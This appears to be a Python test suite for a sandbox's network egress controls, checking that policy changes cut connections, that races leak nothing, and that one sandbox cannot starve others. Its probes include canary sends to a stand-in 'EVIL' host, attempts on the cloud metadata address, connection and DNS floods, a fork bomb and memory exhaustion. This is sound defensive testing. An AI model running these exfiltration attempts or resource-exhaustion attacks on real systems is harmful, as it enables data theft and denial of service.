"""Corpus section H: changes of policy, races, and what a sandbox can use up."""

from __future__ import annotations

import json
import threading

import probes
import world
from world import ALLOWED, EVIL, OTHER, block, datagrams, request, speak

_HOLD = """
held = []
def hold(target, port, data=b"", kind=socket.SOCK_STREAM):
    client = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET, kind)
    client.settimeout(8)
    client.connect((target, port))
    if data:
        client.sendall(data)
        client.recv(4096)
    held.append(client)
"""


def put(lab, box, network) -> int:
    return lab.request("PUT", f"/sandboxes/{box.sandbox_id}/network", network)[0]


def flows_until_cut(box, opening: str):
    """Starts a program inside that holds connections; once it is told that the policy is another one, each of them
    has a second to end, and the program tells how it did."""
    program = probes._PRELUDE + _HOLD + opening + """
open("/tmp/held", "w").close()
while not os.path.exists("/tmp/changed"):
    time.sleep(0.01)
ended = []
for client in held:
    client.settimeout(1)
    try:
        ended.append("data" if client.recv(10) else "closed")
    except socket.timeout:
        ended.append("alive")
    except OSError as error:
        ended.append(type(error).__name__)
say(ended)
"""
    box.files.write("/tmp/hold.py", program)
    handle = box.commands.run("python3 /tmp/hold.py", background=True, timeout=60)
    world.wait_for(lambda: box.files.exists("/tmp/held"))
    return handle


def _said(box, handle):
    box.files.write("/tmp/changed", "")
    result = handle.wait()
    assert result.exit_code == 0, result
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_p8_h159_what_a_new_policy_does_not_permit_is_cut_within_a_second(lab, sandbox):
    box = sandbox()
    keep_alive = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    handle = flows_until_cut(box, f"""
hold({ALLOWED!r}, 80, {keep_alive!r})
hold({EVIL!r}, 8443)
hold({world.EVIL_V6!r}, 8443)
hold({EVIL!r}, 9, b"canary", socket.SOCK_DGRAM)
""")
    assert put(lab, box, {"deny_out": ["0.0.0.0/0"]}) == 200
    ended = _said(box, handle)
    assert "alive" not in ended and "data" not in ended, ended
    events = lab.wait_for_events(box.sandbox_id, lambda events: sum(e["type"] == "egress_revoked" for e in events) >= 4)
    revoked = [event for event in events if event["type"] == "egress_revoked"]
    assert sorted((event["address"], event["port"], event["protocol"]) for event in revoked) == sorted(
        [(ALLOWED, 80, "tcp"), (EVIL, 8443, "tcp"), (world.EVIL_V6, 8443, "tcp"), (EVIL, 9, "udp")])
    assert all(event["generation"] == 2 for event in revoked)
    before = len(lab.sink_lines())
    assert speak(box, [(ALLOWED, 80, b"x")]) == ["refused"] and datagrams(box, [(EVIL, 9, b"x")]) == ["refused"]
    assert lab.sink_lines()[before:] == []


def test_h159_names_through_the_proxy_are_cut_and_those_still_permitted_live(lab, sandbox):
    box = sandbox(network={"allow_out": ["allowed.test", "other.test"]})
    world.bind(box, "allowed.test"), world.bind(box, "other.test")
    handle = flows_until_cut(box, f"""
hold({ALLOWED!r}, 80, {request("allowed.test").replace(b"Connection: close", b"X: y")!r})
hold({OTHER!r}, 80, {request("other.test").replace(b"Connection: close", b"X: y")!r})
""")
    assert put(lab, box, {"allow_out": ["allowed.test"]}) == 200
    ended = _said(box, handle)
    assert ended[0] == "alive" and ended[1] in ("ConnectionResetError", "closed"), ended
    block(lab, box, kind="egress_revoked", host="other.test")


def test_h160_an_invalid_policy_changes_nothing(lab, sandbox):
    box = sandbox(network=world.POLICIES["P1"])
    world.bind(box, "allowed.test")
    for invalid in ({"allow_out": ["10.0.0.0/33"]}, {"allow_out": ["169.254.169.254"]}, {"allow_out": ["*.com"]}, {"allow_out": "x"}, {"deny_out": [7]}):
        assert put(lab, box, invalid) == 400, invalid
    assert speak(box, [(ALLOWED, 80, request("allowed.test")), (EVIL, 80, b"x")]) == ["http 200", "refused"]


def test_h160_while_policies_change_only_what_one_of_them_permits_passes(lab, sandbox):
    box = sandbox(network=world.POLICIES["P1"])
    world.bind(box, "allowed.test")
    before = len(lab.sink_lines())
    stop = threading.Event()

    def alternate():
        policies = [world.POLICIES["P3"], {"allow_out": ["other.test"]}, world.POLICIES["P4"], world.POLICIES["P1"]]
        turn = 0
        while not stop.is_set():
            assert put(lab, box, policies[turn % 4]) == 200
            turn += 1

    changing = threading.Thread(target=alternate)
    changing.start()
    try:
        result = probes.run(box, f"""
            reached = []
            deadline = time.monotonic() + 2.5
            tried = 0
            while time.monotonic() < deadline:
                for target, port in (({EVIL!r}, 80), ({EVIL!r}, 443), ("8.8.8.8", 53), ({world.EVIL_V6!r}, 80), ("169.254.169.254", 80)):
                    tried += 1
                    try:
                        tcp(target, port, socket.AF_INET6 if ":" in target else socket.AF_INET, 3).sendall(b"canary")
                        reached.append(target)
                    except OSError:
                        pass
            say([tried, reached])
            """)
    finally:
        stop.set()
        changing.join()
    assert result[0] > 50 and result[1] == [], result
    assert {line["destination"] for line in lab.sink_lines()[before:] if "destination" in line} <= {ALLOWED, OTHER}


def test_h165_the_first_packet_is_judged(lab, sandbox):
    token = probes.canary()
    box = sandbox(network=world.POLICIES["P1"])
    done = box.commands.run(f"python3 -c \"import socket; socket.create_connection(('{EVIL}', 80), 3).sendall(b'{token}')\"")
    assert done.exit_code != 0 and "refused" in done.stderr and not lab.seen(token)


def test_h167_h168_ten_thousand_connections_leave_the_neighbours_alone(lab, sandbox, p1):
    greedy = sandbox(network=world.POLICIES["P1"])
    world.bind(greedy, "allowed.test")
    result = probes.run(greedy, f"""
        import resource
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        held, failed = [], 0
        for _ in range(min(10000, hard - 100)):
            client = socket.socket()
            client.setblocking(False)
            client.connect_ex(({ALLOWED!r}, 8083))
            held.append(client)
        say([len(held), failed])
        """)
    assert result[0] > 1000, result
    world.twin(lab, p1)
    status, _ = lab.request("GET", "/sandboxes")
    assert status == 200
    # And once they are gone it is served again itself.
    world.wait_for(lambda: speak(greedy, [(ALLOWED, 80, request("allowed.test"))]) == ["http 200"])


def test_h168_a_sandbox_at_all_of_its_limits_keeps_no_other_from_being_served(lab, sandbox, p1):
    greedy = sandbox(network={"allow_out": ["allowed.test", "*.allowed.test"], "deny_out": ["0.0.0.0/0"]})
    world.bind(greedy, "allowed.test")
    flood = f"""
        import resource, threading
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        end = time.monotonic() + 5

        def half_open():
            held = []
            for _ in range(600):
                held.append(tcp({ALLOWED!r}, 443))
                held[-1].sendall(b"\\x16\\x03")
            time.sleep(max(0, end - time.monotonic()))

        def connections():
            while time.monotonic() < end:
                tcp({ALLOWED!r}, 80).close()

        def names():
            client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            client.connect(("8.8.8.8", 53))
            client.setblocking(False)
            sent = 0
            while time.monotonic() < end:
                try:
                    client.send(struct.pack(">HHHHHH", sent & 65535, 0x0100, 1, 0, 0, 0) + b"\\x08g%07d\\x07allowed\\x04test\\0\\0\\1\\0\\1" % sent)
                    sent += 1
                    while client.recv(512):
                        pass
                except OSError:
                    pass

        def bytes_down():
            while time.monotonic() < end:
                client = tcp({ALLOWED!r}, 80)
                client.sendall(b"GET /bytes/67108864 HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n")
                while client.recv(1 << 20) and time.monotonic() < end:
                    pass

        def trying(attack):
            while time.monotonic() < end:
                try:
                    attack()
                except OSError:
                    pass

        attacks = [half_open, connections, names] + [bytes_down] * 12
        threads = [threading.Thread(target=trying, args=(attack,)) for attack in attacks]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        say(True)
        """
    done = []
    flooding = threading.Thread(target=lambda: done.append(probes.run(greedy, flood)))
    flooding.start()
    served = 0
    over = lambda events: {event.get("reason") for event in events if event.get("decision") == "deny"}
    # Which of the limits of names it meets first depends on how fast the upstream server answers.
    names = {"dns_labels", "dns_lookups", "dns_rate"}
    lab.wait_for_events(greedy.sandbox_id, lambda events: "half_open" in over(events) and names & over(events))
    while flooding.is_alive() or served == 0:
        world.twin(lab, p1)
        served += 1
    flooding.join()
    assert done == [True]
    limits = {"flow_limit", "flow_rate", "half_open", "dns_rate", "dns_lookups", "dns_labels", "byte_budget", "binding_limit"}
    assert not limits & over(lab.events(p1.sandbox_id))
    # And when it is over it is served again itself.
    world.wait_for(lambda: speak(greedy, [(ALLOWED, 80, request("allowed.test"))]) == ["http 200"])


def test_h168_processes_and_memory_are_bounded(lab, sandbox, p1):
    box = sandbox(network=world.POLICIES["P4"])
    forked = probes.run(box, """
        import signal
        children = []
        try:
            for _ in range(40000):
                child = os.fork()
                if child == 0:
                    signal.pause()
                children.append(child)
        except OSError as error:
            pass
        for child in children:
            os.kill(child, signal.SIGKILL)
        for child in children:
            os.waitpid(child, 0)
        say(len(children))
        """, timeout=120)
    assert forked < 35000, forked
    assert box.commands.run("echo alive").stdout.strip() == "alive"
    done = box.commands.run("python3 -c \"b = []\nwhile True: b.append(bytearray(64 << 20))\"", timeout=60)
    assert done.exit_code != 0
    assert box.commands.run("echo alive").stdout.strip() == "alive"
    world.twin(lab, p1)


def test_h171_every_refusal_is_counted(lab, sandbox):
    box = sandbox(network=world.POLICIES["P1"])
    world.bind(box, "allowed.test")
    speak(box, [(EVIL, 7000 + number, b"x") for number in range(300)])
    events = lab.wait_for_events(box.sandbox_id, lambda events: sum(e["count"] for e in events if e["type"] == "egress_blocked") >= 300)
    blocked = [event for event in events if event["type"] == "egress_blocked"]
    assert sum(event["count"] for event in blocked) == 300
    assert {event["port"] for event in blocked} == {7000 + number for number in range(300)}
    assert not [event for event in events if event["type"] == "audit_gap"]


def test_h159_a_binding_ends_with_the_policy_that_permitted_its_name(lab, sandbox):
    box = sandbox(network=world.POLICIES["P1"])
    assert speak(box, [("allowed.test", 80, request("allowed.test")), (ALLOWED, 80, request("allowed.test"))]) == ["http 200"] * 2
    assert put(lab, box, {"allow_out": ["other.test"]}) == 200
    assert speak(box, [(ALLOWED, 80, request("allowed.test")), (ALLOWED, 80, request("other.test"))]) == ["refused"] * 2
    # From names to an address, and back: the wire comes and goes with it.
    assert put(lab, box, world.POLICIES["P3"]) == 200
    assert speak(box, [(ALLOWED, 80, request("x")), (OTHER, 80, request("x"))]) == ["http 200", "refused"]
    assert put(lab, box, world.POLICIES["P1"]) == 200
    assert speak(box, [(ALLOWED, 80, request("x")), ("allowed.test", 80, request("allowed.test")), (ALLOWED, 80, request("x"))]) == ["refused", "http 200", "http 403"]
    assert put(lab, box, world.POLICIES["P4"]) == 200
    assert speak(box, [(ALLOWED, 80, request("allowed.test"))]) == ["refused"]
